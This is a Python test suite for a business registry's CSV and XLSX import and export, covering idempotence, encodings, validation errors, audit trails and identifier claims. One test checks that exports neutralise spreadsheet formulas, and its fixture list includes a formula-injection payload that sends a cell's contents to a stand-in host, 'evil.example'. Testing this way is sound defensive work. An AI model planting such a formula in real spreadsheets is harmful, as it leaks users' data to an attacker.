"""Spreadsheet import and export: round trip, idempotence, all-or-nothing, every bad input."""

import io

import pytest
from openpyxl import Workbook
from sqlalchemy import func, select

from cooplab.core.actor import SYSTEM
from cooplab.errors import ImportFileError
from cooplab.registry.exchange import export_records, import_file
from cooplab.registry.models import Identifier, Organization, OrganizationName, Person, Place
from cooplab.registry.reference import load_reference

HEADER = "name,name_lang,other_names,kind,tier,country,head_office,inn\n"


def csv_bytes(text, encoding="utf-8"):
    return text.encode(encoding)


def xlsx_bytes(rows):
    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def count(session, model):
    return session.scalar(select(func.count()).select_from(model))


def test_csv_import_is_idempotent(session):
    content = csv_bytes(
        HEADER + "ООО «Ромашка»,ru,en:short:Romashka | uz:Romashka MCHJ,supplier,2,RU,,7707083893\n"
        "UzAuto Motors,en,ru:УзАвто Моторс,oem,,UZ,,\n"
    )
    first = import_file(session=session, actor=SYSTEM, kind="org", name="orgs.csv", content=content)
    session.commit()
    assert (first.created, first.updated) == (2, 0)
    again = import_file(session=session, actor=SYSTEM, kind="org", name="orgs.csv", content=content)
    session.commit()
    assert (again.created, again.updated, again.unchanged) == (0, 0, 2)
    assert count(session, Organization) == 2
    assert count(session, OrganizationName) == 5


def test_reimport_updates_by_identifier_then_name(session):
    import_file(
        session=session,
        actor=SYSTEM,
        kind="org",
        name="a.csv",
        content=csv_bytes(HEADER + "Ромашка,ru,,supplier,2,RU,,7707083893\n"),
    )
    session.commit()
    report = import_file(
        session=session,
        actor=SYSTEM,
        kind="org",
        name="b.csv",
        content=csv_bytes(HEADER + "Romashka Ltd,en,,supplier,1,RU,,7707083893\n"),
    )
    session.commit()
    assert (report.created, report.updated) == (0, 1)
    org = session.scalar(select(Organization))
    assert org.tier == 1 and {n.value for n in org.names} == {"Ромашка", "Romashka Ltd"}


def test_windows_1251_is_detected(session):
    content = csv_bytes(HEADER + "Тольяттинский завод штампов,ru,,supplier,2,RU,,\n", "cp1251")
    import_file(session=session, actor=SYSTEM, kind="org", name="cp1251.csv", content=content)
    assert session.scalar(select(Organization.name)) == "Тольяттинский завод штампов"


def test_xlsx_import_and_semicolon_csv(session):
    content = xlsx_bytes([["name", "kind", "country"], ["Uz-Koram Co", "supplier", "UZ"], [None, None, None]])
    assert import_file(session=session, actor=SYSTEM, kind="org", name="a.xlsx", content=content).created == 1
    semi = csv_bytes("name;kind;country\nUzChasys;supplier;UZ\n")
    assert import_file(session=session, actor=SYSTEM, kind="org", name="b.csv", content=semi).created == 1


def test_one_bad_row_writes_nothing_and_every_bad_row_is_named(session):
    content = csv_bytes(
        HEADER
        + "Good One,en,,oem,,UZ,,\n"
        + "Bad Inn,en,,supplier,1,RU,,7707083894\n"
        + ",ru,,supplier,1,RU,,\n"
        + "Bad Country,en,,oem,,XX,,\n"
        + "Bad Kind,en,,factory,,UZ,,\n"
        + "Nowhere,en,,oem,,UZ,Atlantis,\n"
    )
    with pytest.raises(ImportFileError) as caught:
        import_file(session=session, actor=SYSTEM, kind="org", name="orgs.csv", content=content)
    found = {(d["loc"][1], d["loc"][2]) for d in caught.value.details}
    assert {(3, "inn"), (4, "name"), (5, "country"), (6, "kind")} <= found
    assert "orgs.csv" in caught.value.message and "nothing was imported" in caught.value.message
    assert count(session, Organization) == 0


def test_head_office_must_exist(session):
    load_reference(session=session)
    before = count(session, Organization)
    with pytest.raises(ImportFileError) as caught:
        import_file(
            session=session,
            actor=SYSTEM,
            kind="org",
            name="o.csv",
            content=csv_bytes(HEADER + "X,en,,oem,,UZ,Atlantis,\n"),
        )
    assert caught.value.details[0]["loc"] == ["o.csv", 2, "head_office"]
    assert count(session, Organization) == before
    report = import_file(
        session=session,
        actor=SYSTEM,
        kind="org",
        name="o.csv",
        content=csv_bytes(HEADER + "X,en,,oem,,UZ,Andijan,\n"),
    )
    assert report.created == 1


@pytest.mark.parametrize(
    "content,message",
    [
        (b"", "empty"),
        (b"   \n", "empty"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00", "not a spreadsheet"),
        (b"PK\x03\x04garbage", "not a readable XLSX"),
        (b"name,colour\nX,red\n", "missing column(s) kind; unknown column(s) colour"),
        (b"kind\noem\n", "missing column(s) name"),
        (b"name,kind\n", "no data rows"),
        (
            "name,kind\nУзАвто,oem\n".encode() + "Кластер,association\n".encode("cp1251"),
            "mixed encodings: line 3",
        ),
    ],
)
def test_bad_files_are_refused_with_a_clear_message(session, content, message):
    with pytest.raises(ImportFileError, match=message.replace("(", r"\(").replace(")", r"\)")) as caught:
        import_file(session=session, actor=SYSTEM, kind="org", name="bad.csv", content=content)
    assert caught.value.message.startswith("bad.csv")
    assert count(session, Organization) == 0


def test_file_over_the_size_limit(session, monkeypatch):
    monkeypatch.setenv("COOPLAB_MAX_UPLOAD_BYTES", "2048")
    from cooplab.settings import get_settings

    get_settings.cache_clear()
    try:
        with pytest.raises(ImportFileError, match="larger than"):
            import_file(
                session=session,
                actor=SYSTEM,
                kind="org",
                name="big.csv",
                content=b"name,kind\n" + b"x,oem\n" * 1000,
            )
    finally:
        get_settings.cache_clear()


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_export_then_import_gives_the_same_registry(session, engine, fmt, tmp_path_factory):
    from cooplab.db.migrate import upgrade
    from cooplab.db.session import make_engine, session_factory
    from tests.conftest import drop_database, fresh_database_url

    load_reference(session=session)
    session.commit()
    files = {
        kind: export_records(session=session, actor=SYSTEM, kind=kind, fmt=fmt)
        for kind in ("place", "org", "person")
    }
    url = fresh_database_url(tmp_path_factory)
    try:
        other_engine = make_engine(url)
        upgrade(other_engine)
        with session_factory(other_engine)() as other:
            for kind in ("place", "org", "person"):
                import_file(session=other, actor=SYSTEM, kind=kind, name=f"{kind}.{fmt}", content=files[kind])
            other.commit()
            again = {
                kind: export_records(session=other, actor=SYSTEM, kind=kind, fmt="csv")
                for kind in ("place", "org", "person")
            }
            for kind in ("place", "org", "person"):
                assert again[kind] == export_records(session=session, actor=SYSTEM, kind=kind, fmt="csv"), (
                    kind
                )
            assert count(other, Organization) == count(session, Organization)
            assert count(other, Person) == count(session, Person)
            assert count(other, Place) == count(session, Place)
            assert count(other, Identifier) == count(session, Identifier)
        other_engine.dispose()
    finally:
        drop_database(url)


def test_people_import_with_positions(session):
    load_reference(session=session)
    content = csv_bytes(
        "name,name_lang,other_names,title,organization,start\n"
        "Иван Петров,ru,en:Ivan Petrov,директор по закупкам,UzAuto Motors,2024-01-01\n"
        "Иван Петров,ru,,советник,Uzavtosanoat,\n"
    )
    report = import_file(session=session, actor=SYSTEM, kind="person", name="p.csv", content=content)
    assert report.created == 1
    person = session.scalar(select(Person).where(Person.name == "Иван Петров"))
    assert sorted(p.title for p in person.positions) == ["директор по закупкам", "советник"]
    bad = csv_bytes("name,title,organization\nX,boss,No Such Company\n")
    with pytest.raises(ImportFileError, match="organization"):
        import_file(session=session, actor=SYSTEM, kind="person", name="p2.csv", content=bad)


def _trail(session, **where):
    from cooplab.core.audit import AuditEntry

    stmt = select(AuditEntry).order_by(AuditEntry.id)
    for column, value in where.items():
        stmt = stmt.where(getattr(AuditEntry, column) == value)
    return list(session.scalars(stmt))


def test_import_writes_audit_entries(session):
    content = csv_bytes(
        HEADER + "Ромашка,ru,en:Romashka,supplier,2,RU,,7707083893\nUzAuto Motors,en,,oem,,UZ,,\n"
    )
    import_file(session=session, actor=SYSTEM, kind="org", name="orgs.csv", content=content)
    session.commit()
    orgs = dict(session.execute(select(Organization.id, Organization.name)).all())
    created = {e.entity_id: e.after for e in _trail(session, entity_type="organizations", action="create")}
    assert {i: a["name"] for i, a in created.items()} == orgs
    names = session.execute(select(OrganizationName.id, OrganizationName.value)).all()
    name_entries = _trail(session, entity_type="organization_names", action="create")
    assert sorted((e.entity_id, e.after["value"]) for e in name_entries) == sorted(names)
    (ident,) = _trail(session, entity_type="identifiers", action="create")
    assert ident.after == {
        "organization_id": ident.after["organization_id"],
        "scheme": "inn",
        "value": "7707083893",
        "verified": True,  # an import by an editor verifies its numbers
    }
    (summary,) = _trail(session, action="import")
    assert summary.entity_type == "organizations"
    assert summary.after == {"file": "orgs.csv", "rows": 2, "created": 2, "updated": 0, "unchanged": 0}

    changed = csv_bytes("name,kind,country,description\nРомашка,supplier,RU,Штамповка\n")
    import_file(session=session, actor=SYSTEM, kind="org", name="again.csv", content=changed)
    session.commit()
    (update,) = _trail(session, entity_type="organizations", action="update")
    target = next(i for i, n in orgs.items() if n == "Ромашка")
    assert (update.entity_id, update.before, update.after) == (
        target,
        {"description": None},
        {"description": "Штамповка"},
    )


def test_import_that_adds_a_name_reports_a_change(session):
    first = csv_bytes("name,kind,country\nUzAuto Motors,oem,UZ\n")
    import_file(session=session, actor=SYSTEM, kind="org", name="a.csv", content=first)
    session.commit()
    version = session.scalar(select(Organization.version))
    more = csv_bytes("name,other_names,kind,country\nUzAuto Motors,ru:УзАвто Моторс,oem,UZ\n")
    report = import_file(session=session, actor=SYSTEM, kind="org", name="b.csv", content=more)
    session.commit()
    assert (report.created, report.updated, report.unchanged) == (0, 1, 0)
    session.expire_all()
    assert session.scalar(select(Organization.version)) == version + 1
    (added,) = [
        e for e in _trail(session, entity_type="organization_names") if e.after["value"] == "УзАвто Моторс"
    ]
    assert added.action == "create"
    again = import_file(session=session, actor=SYSTEM, kind="org", name="b.csv", content=more)
    assert (again.updated, again.unchanged) == (0, 1)


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"click")', "=1+1", "+1", "-2+3", "@SUM(A1)", "＝1"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_neutralises_formulas(session, fmt):
    import csv

    from openpyxl import load_workbook

    from cooplab.core.spreadsheets import write_csv
    from tests.factories import make_org

    for i, formula in enumerate(FORMULAS):
        make_org(session, f"Org {i}", description=formula)
    session.commit()
    data = export_records(session=session, actor=SYSTEM, kind="org", fmt=fmt)
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
        cells = [row[rows[0].index("description")] for row in rows[1:]]
    else:
        sheet = load_workbook(io.BytesIO(data)).active
        rows = list(sheet.iter_rows())
        column = [c.value for c in rows[0]].index("description")
        assert all(row[column].data_type == "s" for row in rows[1:])
        cells = [row[column].value for row in rows[1:]]
    assert cells == ["'" + f for f in FORMULAS]
    # a tab or a carriage return opens a formula too (descriptions lose them at the boundary)
    assert next(csv.reader(io.StringIO(write_csv([["\t=1", "\r=1", "a=1"]]).decode("utf-8-sig")))) == [
        "'\t=1",
        "'\r=1",
        "a=1",
    ]
    # and reading the file back gives the texts as they were
    before = sorted(session.scalars(select(Organization.description)))
    report = import_file(session=session, actor=SYSTEM, kind="org", name=f"orgs.{fmt}", content=data)
    assert report.unchanged == len(FORMULAS)
    session.expire_all()
    assert sorted(session.scalars(select(Organization.description))) == before


def test_a_nul_character_in_a_csv_cell_is_refused(session):
    content = csv_bytes("name,kind,country\nUzAuto Motors,oem,UZ\nZavod\x00 Tolyatti,supplier,RU\n")
    with pytest.raises(ImportFileError, match="row 3 holds a NUL") as refused:
        import_file(session=session, actor=SYSTEM, kind="org", name="orgs.csv", content=content)
    assert refused.value.details[0]["loc"] == ["orgs.csv", 3]
    assert count(session, Organization) == 0


def test_a_claimed_number_neither_matches_nor_blocks_an_import_and_exports_as_unverified(session):
    from cooplab.core.actor import Actor, Role
    from cooplab.registry import service
    from cooplab.registry.schemas import OrganizationUpdate
    from tests.factories import make_org

    own = make_org(session, "Uz-Koram Co", kind="supplier", tier=1)
    member = Actor(user_id=None, label="member", role=Role.MEMBER, organization_id=own.id)
    service.update_organization(
        session=session,
        actor=member,
        organization_id=own.id,
        data=OrganizationUpdate(version=own.version, identifiers=[{"scheme": "inn", "value": "7736050003"}]),
    )
    content = csv_bytes("name,kind,country,inn\nГазпром,other,RU,7736050003\n")
    report = import_file(session=session, actor=SYSTEM, kind="org", name="orgs.csv", content=content)
    assert (report.created, report.updated) == (1, 0)  # the claimant was not updated as Gazprom
    held = session.execute(
        select(Organization.name, Identifier.verified).join(Identifier).order_by(Identifier.id)
    ).all()
    assert [tuple(r) for r in held] == [("Uz-Koram Co", False), ("Газпром", True)]

    exported = export_records(session=session, actor=SYSTEM, kind="org", fmt="csv").decode("utf-8-sig")
    header, *rows = exported.splitlines()
    assert header.split(",")[9:14] == ["inn", "ogrn", "stir", "unverified", "illustrative"]
    claimant = next(r for r in rows if r.startswith("Uz-Koram Co"))
    assert claimant.split(",")[9] == "" and claimant.split(",")[12] == "inn:7736050003"

    # the column is read back: a claim stays a claim, an unknown scheme is refused
    again = import_file(session=session, actor=SYSTEM, kind="org", name="orgs.csv", content=exported.encode())
    assert again.created == 0 and again.updated == 0
    assert session.scalar(select(func.count()).select_from(Identifier).where(~Identifier.verified)) == 1
    with pytest.raises(ImportFileError, match="unverified: unknown scheme 'kpp'"):
        import_file(
            session=session,
            actor=SYSTEM,
            kind="org",
            name="orgs.csv",
            content=csv_bytes("name,kind,inn,unverified\nНовая,other,7707083893,kpp\n"),
        )


def test_an_import_reads_a_claim_in_its_scheme_column_or_with_its_number(session):
    content = csv_bytes(
        "name,kind,inn,stir,unverified\n"
        "Новая,other,7707083893,,inn\n"
        "Другая,other,7736050003,,stir:200935935\n"
    )
    import_file(session=session, actor=SYSTEM, kind="org", name="orgs.csv", content=content)
    held = session.execute(
        select(Organization.name, Identifier.scheme, Identifier.value, Identifier.verified).join(Identifier)
    ).all()
    assert sorted(tuple(r) for r in held) == [
        ("Другая", "inn", "7736050003", True),
        ("Другая", "stir", "200935935", False),
        ("Новая", "inn", "7707083893", False),
    ]
    with pytest.raises(ImportFileError, match="row 2, unverified: inn:12345: INN must have 10 or 12 digits"):
        import_file(
            session=session,
            actor=SYSTEM,
            kind="org",
            name="bad.csv",
            content=csv_bytes("name,kind,unverified\nТретья,other,inn:12345\n"),
        )
    assert count(session, Organization) == 2


def test_a_verified_number_and_a_claim_of_its_scheme_both_come_back_from_an_export(session, tmp_path_factory):
    from cooplab.core.actor import Actor, Role
    from cooplab.db.migrate import upgrade
    from cooplab.db.session import make_engine, session_factory
    from cooplab.registry import service
    from cooplab.registry.schemas import OrganizationUpdate
    from tests.conftest import drop_database, fresh_database_url
    from tests.factories import make_org

    own = make_org(
        session, "Uz-Koram Co", kind="supplier", identifiers=[{"scheme": "inn", "value": "7707083893"}]
    )
    member = Actor(user_id=None, label="member", role=Role.MEMBER, organization_id=own.id)
    service.update_organization(  # the member claims another INN and a STIR beside the verified INN
        session=session,
        actor=member,
        organization_id=own.id,
        data=OrganizationUpdate(
            version=own.version,
            identifiers=[
                {"scheme": "inn", "value": "7707083893"},
                {"scheme": "inn", "value": "7736050003"},
                {"scheme": "stir", "value": "200935935"},
            ],
        ),
    )
    session.commit()

    def held(db):
        rows = db.execute(
            select(Organization.name, Identifier.scheme, Identifier.value, Identifier.verified).join(
                Identifier
            )
        ).all()
        return sorted(tuple(r) for r in rows)

    assert held(session) == [
        ("Uz-Koram Co", "inn", "7707083893", True),
        ("Uz-Koram Co", "inn", "7736050003", False),
        ("Uz-Koram Co", "stir", "200935935", False),
    ]
    for fmt in ("csv", "xlsx"):
        exported = export_records(session=session, actor=SYSTEM, kind="org", fmt=fmt)
        again = import_file(session=session, actor=SYSTEM, kind="org", name=f"orgs.{fmt}", content=exported)
        assert (again.created, again.updated) == (0, 0)  # nothing is new to the registry it came from
        url = fresh_database_url(tmp_path_factory)
        try:
            other_engine = make_engine(url)
            upgrade(other_engine)
            with session_factory(other_engine)() as other:
                import_file(session=other, actor=SYSTEM, kind="org", name=f"orgs.{fmt}", content=exported)
                other.commit()
                assert held(other) == held(session), fmt
                assert export_records(session=other, actor=SYSTEM, kind="org", fmt="csv") == export_records(
                    session=session, actor=SYSTEM, kind="org", fmt="csv"
                )
            other_engine.dispose()
        finally:
            drop_database(url)
